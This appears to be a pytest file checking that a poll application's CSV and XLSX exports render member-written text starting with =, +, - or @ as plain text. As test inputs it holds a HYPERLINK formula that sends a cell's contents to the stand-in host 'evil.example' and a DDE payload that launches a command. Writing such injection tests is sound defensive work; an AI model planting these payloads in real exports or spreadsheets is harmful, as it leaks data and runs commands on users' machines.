"""Member-written text in exports stays text: a poll title or option label that
starts like a formula (= + - @) is no formula in the CSV files or the XLSX file
the board opens in a spreadsheet program."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from polls import casting
from polls.lifecycle import ensure_current
from tests.factories import close_now, make_poll

EVIL = ('=HYPERLINK("http://evil.example/?"&A1,"Klick")', "+1+2", "-3", "@SUM(A1)")


@pytest.fixture
def evil_poll(world, app, session):
    with app.app_context():
        poll = make_poll(
            session, world.nord, world.organiser, kind="single_choice", options=EVIL
        )
        poll.title = "=cmd|' /C calc'!A0"
        session.commit()
        casting.cast(session, poll, world.member, [poll.options[0].id])
        close_now(session, poll)
        ensure_current(session, poll)
    return poll


def _cells(body: str) -> list[str]:
    rows = csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";")
    return [cell for row in rows for cell in row]


def test_no_csv_cell_starts_a_formula(evil_poll, auth, client):
    auth.login("vorstand@example.org")
    for name in ("csv", "ballots.csv"):
        body = client.get(f"/polls/{evil_poll.id}/export.{name}").get_data(as_text=True)
        cells = _cells(body)
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], name
        assert "'" + EVIL[0] in cells  # still there, shown as the text it is
    period = client.get("/polls/report?format=csv")  # the board's period report
    assert period.status_code == 200
    cells = _cells(period.get_data(as_text=True))
    assert "'" + evil_poll.title in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]


def test_xlsx_cells_are_text_not_formulas(evil_poll, auth, client):
    auth.login("vorstand@example.org")
    data = client.get(f"/polls/{evil_poll.id}/export.xlsx").get_data()
    book = load_workbook(io.BytesIO(data))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert evil_poll.title in values and EVIL[0] in values
    period = client.get("/polls/report?format=xlsx").get_data()
    cells = [
        c for s in load_workbook(io.BytesIO(period)) for r in s.iter_rows() for c in r
    ]
    assert evil_poll.title in {c.value for c in cells}
    assert not [c.coordinate for c in cells if c.data_type == "f"]
